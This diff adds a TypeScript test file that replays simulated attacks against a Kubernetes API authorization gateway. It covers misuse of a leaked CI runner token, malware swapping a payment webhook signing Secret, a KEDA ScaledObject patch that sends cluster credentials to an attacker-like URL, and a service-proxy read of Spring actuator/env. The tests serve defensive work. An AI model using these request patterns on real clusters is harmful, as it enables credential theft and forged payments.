@@ -1,0 +1,132 @@
+import { describe, expect, it } from 'vitest';
+import { reasonOf } from '../support/grpc-client.js';
+import { exampleServiceForFile } from '../support/workday-service.js';
+import { findingRequests, rules } from '../support/findings.js';
+import type { Login } from '../support/workday.js';
+import { API, exfilScaledObject, KUBECTL, LENS, scaledObject, TAILNET, WAR_ROOM_PC } from '../support/workday22.js';
+
+/**
+ * What the twenty-second replayed day (test/support/workday22.ts, docs/risk.md "Day 22") found,
+ * through the real gRPC server running examples/stepgate.yaml on a virtual clock: an e-commerce
+ * company's Black Friday on a tailnet (each device one stable 100.64.0.0/10 address), Windows
+ * laptops with Lens and WSL2, actions-runner-controller's self-hosted runners, KEDA, and a war
+ * room. Each test is one engineer's (or runner's) two days of routine, then the finding, from
+ * their own device with their morning sign-in hours old. The open ones are `it.fails`.
+ */
+
+const s = exampleServiceForFile();
+/** The warm-up Thursday and Black Friday, 08:00 UTC. */
+const [THU, FRI] = [26, 27].map((d) => Date.UTC(2026, 10, d, 8, 0, 0)) as [number, number];
+const [H, M] = [3_600_000, 60_000];
+const MERGE = 'application/merge-patch+json';
+const SMP = 'application/strategic-merge-patch+json';
+
+const { send, twoDays } = findingRequests(s, { host: API, source: TAILNET(7), ua: KUBECTL('linux/amd64'), firstDay: THU, secondDay: FRI });
+
+const runner = (repo: string): Login => ({ sub: `system:serviceaccount:arc-runners:${repo}-runner`, sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true });
+const setImage = (container: string, image: string) => JSON.stringify({ spec: { template: { spec: { containers: [{ name: container, image }] } } } });
+const RUNNER_UA = KUBECTL('linux/amd64', 'v1.31.2', '5864a46');
+
+/** A runner's deploys to its own repository's staging namespace, every 20 minutes for two mornings. */
+async function runnerDays(repo: string, ns: string): Promise<void> {
+  for (const day of [THU, FRI]) {
+    for (let j = 0; j < 6; j++) {
+      const t = day + j * 20 * M;
+      const res = await send(runner(repo), t, 'PATCH', `/apis/apps/v1/namespaces/${ns}/deployments/${repo}-web?fieldManager=kubectl-set`, { body: setImage('web', `ghcr.io/basketry/${repo}-web:sha-${j}`), contentType: SMP, source: `10.42.${j}.${j + 3}`, ua: RUNNER_UA });
+      expect(reasonOf(res), rules(res)).toBe('allowed');
+    }
+  }
+}
+
+describe("an e-commerce company's Black Friday on a tailnet, with examples/stepgate.yaml", () => {
+  // Open: the storefront repository's runner token (printed into a public job log) used from
+  // another runner pod sets the payments repository's staging Deployment's image. Automation is
+  // admitted at the everyday requirement, a Deployment write outside production asks no more, and
+  // the working set's signals are for people's sensitive actions. The runner's service account
+  // has no business in payments-staging, which only the cluster's RBAC (a Role per runner scale
+  // set, in its own repository's namespaces) or a per-identity namespace list in stepgate's
+  // `automation` section could say.
+  it.fails("a runner's service account writing another repository's environment is not allowed", async () => {
+    await runnerDays('storefront', 'storefront-staging');
+    const res = await send(runner('storefront'), FRI + 3 * H, 'PATCH', '/apis/apps/v1/namespaces/payments-staging/deployments/payments-api?fieldManager=kubectl-set', { body: setImage('api', 'ghcr.io/basketry-payments/payments-api:bf-hotfix'), contentType: SMP, source: '10.42.9.77', ua: RUNNER_UA });
+    expect(reasonOf(res), rules(res)).not.toBe('allowed');
+  });
+
+  // Measured: a fork's pull request on a self-hosted runner reads the staging Secrets with the
+  // runner's service account: a Secret asks two factors, which automation cannot give.
+  it("a fork's pull request reading Secrets with the runner's service account is refused (automation_step_up)", async () => {
+    await runnerDays('checkout', 'checkout-staging');
+    const res = await send(runner('checkout'), FRI + 2 * H, 'GET', '/api/v1/namespaces/checkout-staging/secrets', { source: '10.42.3.140', ua: RUNNER_UA });
+    expect(reasonOf(res), rules(res)).toBe('automation_step_up');
+  });
+
+  // Measured: a Lens extension on a checkout engineer's laptop, through Lens's proxy with the
+  // engineer's session, lists the Secrets of a production namespace the engineer never worked in.
+  it("a Lens extension's Secret list outside the engineer's namespaces asks a sign-in made after it", async () => {
+    const ua = LENS('Windows NT 10.0; Win64; x64');
+    const login = await twoDays('d22f-checkout@basketry.example', [
+      ['GET', '/api/v1/namespaces/prod-checkout/pods?limit=500'],
+      ['GET', '/api/v1/namespaces/prod-checkout/secrets/checkout-config'],
+    ], { ua, source: TAILNET(0) });
+    const res = await send(login, FRI + 5 * H, 'GET', '/api/v1/namespaces/prod-catalog/secrets', { ua, source: TAILNET(0) });
+    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
+  });
+
+  // Open: malware on the payments engineer's laptop replaces the PSP webhook's signing key 40
+  // minutes after the engineer's own rotation of it (the PSP rotated it under pressure): the same
+  // Secret read and patched, from the same laptop, address, client and token, within the
+  // `secrets` rule's 8 hours. Forged "payment captured" webhooks then verify. What would close it:
+  // a production Secret's update asking a sign-in within minutes (the rotation would be asked
+  // once; helm's release records, updated at every upgrade, would have to be left out by name),
+  // or the key held by a secret store whose writes are the payments team's approval.
+  it.fails("the PSP webhook's signing Secret replaced 40 minutes after the real rotation is not allowed", async () => {
+    const path = '/api/v1/namespaces/prod-payments/secrets/psp-webhook';
+    const src = { source: TAILNET(5), ua: KUBECTL('darwin/arm64') };
+    const login = await twoDays('d22f-payments@basketry.example', [
+      ['GET', '/api/v1/namespaces/prod-payments/pods?limit=500'],
+      ['GET', path],
+    ], src);
+    const rotated = await send(login, FRI + 2.66 * H, 'PATCH', `${path}?fieldManager=kubectl-patch`, { ...src, body: JSON.stringify({ data: { 'signing-key': 'd2hzZWNfN2JmM2E5YzE0ZTJkOGY2YTBiNWM=' } }), contentType: MERGE });
+    expect(reasonOf(rotated), rules(rotated)).toBe('allowed');
+    const res = await send(login, FRI + 3.33 * H, 'PATCH', `${path}?fieldManager=kubectl-patch`, { ...src, body: JSON.stringify({ data: { 'signing-key': 'd2hzZWNfYXR0YWNrZXJfY29udHJvbGxlZA==' } }), contentType: MERGE });
+    expect(reasonOf(res), rules(res)).not.toBe('allowed');
+  });
+
+  // Was allowed (day 22, every seed with the warm-up day): malware on the SRE's laptop patches a
+  // ScaledObject in a production namespace where the SRE tunes ScaledObjects every day, adding a
+  // metrics-api trigger whose authenticationRef is the platform's ClusterTriggerAuthentication for
+  // the PSP's reporting API and whose url is the attacker's: KEDA's operator reads that Secret
+  // with its own rights and sends it as a bearer token every polling interval. The request was a
+  // ScaledObject patch like the SRE's own (prod-writes, 8 hours). Now the trigger's cluster-wide
+  // authentication is keda_cluster_trigger_auth (two factors within 15 minutes); the routine
+  // Prometheus trigger, which carries no credential, asks nothing.
+  it("a ScaledObject sending a ClusterTriggerAuthentication's credential to a URL it names asks a recent sign-in; the routine one does not", async () => {
+    const path = '/apis/keda.sh/v1alpha1/namespaces/prod-catalog/scaledobjects/catalog-api?fieldManager=kubectl-client-side-apply&fieldValidation=Strict';
+    const login = await twoDays('d22f-sre@basketry.example', [
+      ['GET', '/apis/keda.sh/v1alpha1/namespaces/prod-catalog/scaledobjects/catalog-api'],
+      ['PATCH', path, JSON.stringify(scaledObject('prod-catalog', 'catalog-api', 3, 40)), MERGE],
+    ]);
+    const routine = await send(login, FRI + 4 * H, 'PATCH', path, { body: JSON.stringify(scaledObject('prod-catalog', 'catalog-api', 10, 120)), contentType: MERGE });
+    expect(reasonOf(routine), rules(routine)).toBe('allowed');
+    const res = await send(login, FRI + 4 * H + M, 'PATCH', path, { body: JSON.stringify(exfilScaledObject('prod-catalog', 'catalog-api', 'https://metrics.basketry-cdn.example/v1/queue')), contentType: MERGE });
+    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
+    expect(rules(res)).toContain('keda_cluster_trigger_auth');
+  });
+
+  // Open: the incident commander signed in on the war room's wall-screen PC that morning to show
+  // the cluster; someone else in the room uses its kubeconfig for the payments service's admin
+  // port through the API server's service proxy (Spring Boot's actuator: the environment, PSP keys
+  // included). The IC reads prod-payments all day from that PC; `pod-shell` asks two factors
+  // within 8 hours, which the morning's sign-in is; a shell or a proxy is not an `unfamiliar_kind`
+  // by default (docs/risk.md: it added 40 routine challenges for one attack row). The IC's
+  // read-only RBAC (`view` grants no proxy and no exec) is what refuses it at the API server.
+  it.fails("the war room's observer using the IC's kubeconfig for a service proxy into payments is not allowed", async () => {
+    const sub = 'd22f-ic@basketry.example';
+    const morning = FRI - 60 * M;
+    const pc: Login = { sub, sid: `${sub}:pc`, authTime: Math.floor(morning / 1000), acr: 'urn:stepgate:aal2' };
+    await twoDays(sub, [['GET', '/api/v1/pods?limit=500'], ['GET', '/api/v1/namespaces/prod-payments/pods?limit=500']], { source: WAR_ROOM_PC, ua: KUBECTL('windows/amd64') });
+    for (let i = 0; i < 3; i++) await send(pc, FRI + i * H, 'GET', '/api/v1/namespaces/prod-payments/pods?limit=500', { source: WAR_ROOM_PC, ua: KUBECTL('windows/amd64') });
+    const res = await send(pc, FRI + 6.3 * H, 'GET', '/api/v1/namespaces/prod-payments/services/http:payments-api:8081/proxy/actuator/env', { source: WAR_ROOM_PC, ua: KUBECTL('windows/amd64') });
+    expect(reasonOf(res), rules(res)).not.toBe('allowed');
+  });
+});
